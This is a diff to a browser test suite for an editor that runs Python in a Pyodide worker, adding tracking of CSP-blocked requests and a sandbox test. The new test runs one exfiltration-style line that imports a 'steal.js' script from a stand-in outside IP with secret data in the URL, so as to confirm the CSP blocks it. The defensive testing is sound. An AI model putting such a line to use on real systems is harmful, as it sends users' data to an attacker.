@@ -7,19 +7,26 @@ import { editorText, logIn, newContext, useServerAndBrowser } from "./support.ts
 
 const env = useServerAndBrowser({ seed: true });
 
-/** Every URL a context asks for, its workers and WebSockets included. */
-function recordRequests(context: BrowserContext): string[] {
-  const urls: string[] = [];
-  context.on("request", (request) => urls.push(request.url()));
-  context.on("page", (page) => page.on("websocket", (socket) => urls.push(socket.url())));
-  return urls;
+interface Traffic {
+  /** Every URL a context asked for, its workers and WebSockets included. */
+  requested: string[];
+  /** Requests the browser refused to send because of a Content-Security-Policy. */
+  blockedByCsp: Set<string>;
 }
 
-function expectOnlyLocal(urls: string[]) {
-  const elsewhere = urls.filter((url) => !/^(data|blob):/.test(url) && new URL(url).hostname !== "127.0.0.1");
-  expect(elsewhere).toEqual([]);
+function recordRequests(context: BrowserContext): Traffic {
+  const traffic: Traffic = { requested: [], blockedByCsp: new Set() };
+  context.on("request", (request) => traffic.requested.push(request.url()));
+  context.on("requestfailed", (request) => request.failure()?.errorText === "csp" && traffic.blockedByCsp.add(request.url()));
+  context.on("page", (page) => page.on("websocket", (socket) => traffic.requested.push(socket.url())));
+  return traffic;
+}
+
+function expectOnlyLocal(traffic: Traffic) {
+  const sent = traffic.requested.filter((url) => !traffic.blockedByCsp.has(url));
+  expect(sent.filter((url) => !/^(data|blob):/.test(url) && new URL(url).hostname !== "127.0.0.1")).toEqual([]);
   // The worker's own fetches are seen, so the check covers Pyodide's files too.
-  expect(urls.some((url) => /\/pyodide\/[\d.]+\/pyodide\.asm\.wasm$/.test(url))).toBe(true);
+  expect(sent.some((url) => /\/pyodide\/[\d.]+\/pyodide\.asm\.wasm$/.test(url))).toBe(true);
 }
 
 async function openTeamRoom(page: Page) {
@@ -54,7 +61,7 @@ async function runAndWait(page: Page, text: string) {
 
 describe("Python in a room", () => {
   let ada: Page;
-  let adaRequests: string[];
+  let adaRequests: Traffic;
 
   beforeAll(async () => {
     const context = await newContext(env.browser, env.server.url);
@@ -173,6 +180,24 @@ describe("Python in a room", () => {
     // stderr looks different from stdout.
     const colour = (text: RegExp) => ada.getByTestId("console-output").locator("span").filter({ hasText: text }).evaluate((el) => getComputedStyle(el).color);
     expect(await colour(/^Traceback/)).not.toBe(await colour(/^computing/));
+  });
+
+  it("the program cannot send requests or reach other tabs: it runs in other people's browsers with their session", async () => {
+    await setCode(
+      ada,
+      [
+        "import js",
+        'names = ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "BroadcastChannel", "importScripts", "Worker", "indexedDB", "caches")',
+        'print("reachable:", [name for name in names if hasattr(js, name)])',
+        "js.eval(\"import('http://198.51.100.7/steal.js?code=' + encodeURIComponent('secret')).catch(() => {})\")",
+        'print("tried")',
+        "",
+      ].join("\n"),
+    );
+    await runAndWait(ada, "reachable: []\ntried\nProgram finished");
+    // The worker's CSP refuses the import before anything is sent.
+    await expect.poll(() => adaRequests.blockedByCsp.has("http://198.51.100.7/steal.js?code=secret")).toBe(true);
+    expectOnlyLocal(adaRequests);
   });
 
   it("a flood of output is capped with a notice, the page stays responsive, and Stop ends it", async () => {
